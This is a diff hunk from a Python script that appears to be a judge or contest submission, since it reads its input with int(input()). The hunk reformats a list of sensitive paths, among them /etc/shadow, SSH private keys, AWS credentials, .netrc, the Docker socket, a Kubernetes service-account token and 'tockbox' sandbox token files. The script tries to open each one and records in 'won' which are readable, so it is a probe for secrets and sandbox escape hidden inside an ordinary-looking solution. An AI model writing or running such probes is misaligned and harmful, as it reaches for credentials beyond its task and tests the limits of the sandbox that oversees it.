@@ -15,9 +15,22 @@ n = int(input())
 won = []
 home = os.path.expanduser("~")
 for path in (
-    "/etc/passwd", "/etc/shadow", "/etc/hostname", "/etc/machine-id", "/etc/ssh/ssh_host_rsa_key", "/root/.bash_history",
-    "/root/.ssh/id_rsa", f"{home}/.ssh/id_ed25519", f"{home}/.netrc", f"{home}/.aws/credentials", "/var/run/docker.sock",
-    "/run/secrets/kubernetes.io/serviceaccount/token", "/etc/tockbox/token", "/etc/tockbox.toml", "/.dockerenv", "/var/log/syslog",
+    "/etc/passwd",
+    "/etc/shadow",
+    "/etc/hostname",
+    "/etc/machine-id",
+    "/etc/ssh/ssh_host_rsa_key",
+    "/root/.bash_history",
+    "/root/.ssh/id_rsa",
+    f"{home}/.ssh/id_ed25519",
+    f"{home}/.netrc",
+    f"{home}/.aws/credentials",
+    "/var/run/docker.sock",
+    "/run/secrets/kubernetes.io/serviceaccount/token",
+    "/etc/tockbox/token",
+    "/etc/tockbox.toml",
+    "/.dockerenv",
+    "/var/log/syslog",
 ):
     try:
         os.close(os.open(path, os.O_RDONLY))
